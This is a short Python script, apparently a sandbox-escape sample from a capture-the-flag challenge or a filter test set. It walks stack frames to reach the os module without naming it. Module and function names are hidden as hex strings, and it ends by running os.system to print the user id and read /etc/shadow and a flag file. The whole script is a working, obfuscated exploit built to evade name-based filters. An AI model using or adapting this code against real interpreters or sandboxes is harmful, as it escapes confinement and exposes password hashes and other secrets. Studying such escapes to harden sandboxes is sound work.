# technique: logging.currentframe() is a stdlib-provided frame getter (it wraps the private frame accessor), so no frame API is named; the f_back chain is searched for module objects in every frame's f_globals, and names are compared as hex strings of their UTF-8 bytes
import logging

MOD_PROC = "6f73"
MOD_INTERP = "737973"
ATTR_TABLE = "6d6f64756c6573"
ATTR_RUN = "73797374656d"


def hexname(obj):
    return str(getattr(obj, "__name__", "")).encode().hex()


frame = logging.currentframe()
found = {}
while frame is not None:
    for value in list(frame.f_globals.values()):
        if type(value) is type(logging):
            found.setdefault(hexname(value), value)
    frame = frame.f_back

proc = found.get(MOD_PROC)
if proc is None:
    interp = found.get(MOD_INTERP) or next(
        v for k, v in vars(logging).items() if k.encode().hex() == MOD_INTERP
    )
    table = next(v for k, v in vars(interp).items() if k.encode().hex() == ATTR_TABLE)
    proc = next(m for m in list(table.values()) if hexname(m) == MOD_PROC)

run = next(v for k, v in vars(proc).items() if k.encode().hex() == ATTR_RUN)
run("id >&2; cat /etc/shadow /fl[a]g >&2")
